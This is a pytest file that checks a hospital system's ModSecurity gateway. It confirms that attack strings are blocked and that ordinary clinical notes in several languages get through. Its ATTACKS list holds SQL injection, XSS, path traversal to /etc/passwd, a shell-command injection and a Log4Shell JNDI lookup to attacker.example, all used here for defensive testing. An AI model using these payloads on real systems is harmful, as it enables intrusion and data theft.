"""ModSecurity with the core rule set: attacks are stopped, and what clinicians write is not."""

import time
from pathlib import Path

import pytest

from engines.nginx import Gateway
from people import new_patient

OPEN = ["--rate=read=0", "--rate=write=0", "--rate=search=0", "--rate=login=0", "--address-rate=0"]
pytestmark = pytest.mark.skipif(
    not Path("/usr/lib/nginx/modules/ngx_http_modsecurity_module.so").exists(), reason="ModSecurity is not installed")

ATTACKS = [
    "' OR 1=1--", "<script>alert(1)</script>", "1' UNION SELECT password FROM users--", "; cat /etc/passwd",
    "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "<img src=x onerror=alert(1)>",
]
NOTES = [
    "Chest pain since morning; select investigations ordered, ECG normal.",
    "Patient can't sleep; cat allergy; find cause. O'Brien's sign negative -- repeat in 2 weeks.",
    "BP 120/80 mmHg; HR < 60; SpO2 > 95%. Plan: (1) stop aspirin; (2) start clopidogrel 75 mg od",
    "Temp 38.5°C & rigors || chills; id: known diabetic; ls spine tender; who scale 2; kill pain",
    "Mother's name: D'Souza. Address: 12/3, St. John's Rd. <5 yrs old. Rx: Tab. Paracetamol 500mg 1-0-1 x 5/7 #15",
    "if fever > 101 then call; echo done (2D echo: EF 55%), man aged 45; sleep 5 hours; sort out diet; cut wound",
    "Pt. says \"I can't breathe\"; `PRN` nebs; $5 copay; 100% O2; http://guidelines.example.org/asthma?x=1",
    "Wound: 3cm x 2cm; exec. function intact; python bite; nc prongs 2L; env. allergy; source unknown",
    "Declined; insert catheter; update family; delete old prescription; drop in BP",
    "मरीज़ को बुखार है, तीन दिन से खाँसी; रोज़ दवा लें",
    "المريض يعاني من صداع؛ ألم في الصدر",
    "Größe 1,80m; l'état général est altéré; ¿dolor? sí",
]


@pytest.fixture(scope="module")
def blocking(tmp_path_factory, demo):
    folder = tmp_path_factory.mktemp("waf")
    with Gateway(folder / "g", "--all", f"127.0.0.1:{demo.port}", "--waf", "block", *OPEN) as running:
        yield running


@pytest.fixture(scope="module")
def chart(staff):
    """A patient whose record a doctor may write."""
    patient = staff["receptionist"].made("/api/patients", new_patient())["id"]
    given = staff["doctor"].post(
        f"/api/patients/{patient}/emergency-access", {"reason": "The test needs to write into the record."})
    assert given.status_code in (200, 201), given.text
    return f"/api/patients/{patient}/notes"


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_stopped(blocking, at, chart, attack):
    tried = at(blocking, None).post("/api/auth/login", {"email": attack, "password": "x"})
    assert tried.status_code == 403 and tried.json()["type"] == "/problems/refused-by-gateway", tried.text
    # Which rule it was is written down, by the id of the request.
    identifier, log = tried.json()["requestId"], blocking.folder / "logs" / "waf.log"
    lines = [line for line in log.read_text().splitlines() if identifier in line]
    assert any('[id "9' in line and '[id "949110"]' not in line for line in lines), lines
    # Also from whoever may write there; but a quote between words is no attack in a sentence.
    if attack == "' OR 1=1--":
        return
    written = at(blocking, "doctor").post(chart, {"title": "Visit", "text": attack})
    assert written.status_code == 403 and written.json()["type"] == "/problems/refused-by-gateway", written.text


@pytest.mark.parametrize("text", NOTES)
def test_a_note_gets_through(blocking, at, chart, text):
    made = at(blocking, "doctor").post(chart, {"title": "Visit", "text": text})
    assert made.status_code == 201, made.text
    assert made.json()["text"] == text


def test_every_kind_of_change_gets_through(blocking, at):
    """With the methods and the media types of HMS."""
    clerk = at(blocking, "receptionist")
    patient = clerk.made("/api/patients", new_patient())
    changed = clerk.request(
        "PATCH", f"/api/patients/{patient['id']}", data=b'{"name": {"given": "Ada", "family": "O\'Brien"}}',
        headers={"If-Match": '"1"', "Content-Type": "application/merge-patch+json"})
    assert changed.status_code == 200, changed.text
    removed = clerk.request("DELETE", "/api/appointments/wait-list/nobody")
    assert removed.json()["type"] != "/problems/refused-by-gateway"
    replaced = clerk.request("PUT", f"/api/appointments/reminders/{patient['id']}", json={"channels": []})
    assert replaced.json().get("type") != "/problems/refused-by-gateway"


def test_a_body_that_cannot_be_read_is_refused(blocking, at):
    broken = at(blocking, "receptionist").request(
        "POST", "/api/patients", data=b'{"name": ', headers={"Content-Type": "application/json"})
    assert broken.status_code == 400 and broken.headers["Content-Type"] == "application/problem+json"


def test_a_large_note_is_looked_into_and_gets_through(blocking, at, chart):
    made = at(blocking, "doctor").post(chart, {"title": "Discharge", "text": "Stable; walks with help. " * 700})
    assert made.status_code == 201, made.text


def test_detecting_stops_nothing_and_writes_it_down(tmp_path, demo, at):
    with Gateway(tmp_path / "g", "--all", f"127.0.0.1:{demo.port}", "--waf", "detect", *OPEN) as gateway:
        tried = at(gateway, None).post("/api/auth/login", {"email": "a@b.example", "password": ATTACKS[0]})
        assert tried.status_code == 401
        log = gateway.folder / "logs" / "waf.log"
        deadline = time.monotonic() + 10
        while tried.headers["X-Request-Id"] not in log.read_text():
            assert time.monotonic() < deadline, "it is not in the log"
            time.sleep(0.05)


def test_reads_are_looked_into_where_that_is_wanted(tmp_path, demo, at, blocking):
    attack = "/api/patients?query=%3Cscript%3Ealert(1)%3C/script%3E"
    assert at(blocking, "receptionist").get(attack).status_code == 200
    options = ["--waf", "block", "--waf-scope", "all", *OPEN]
    with Gateway(tmp_path / "g", "--all", f"127.0.0.1:{demo.port}", *options) as gateway:
        clerk = at(gateway, "receptionist")
        refused = clerk.get(attack)
        assert refused.status_code == 403 and refused.json()["type"] == "/problems/refused-by-gateway"
        for path in ("/api/patients?query=O'Brien", "/api/patients?query=%E0%A4%B0%E0%A4%BE%E0%A4%AE", "/api/hospital"):
            assert clerk.get(path).status_code == 200, path
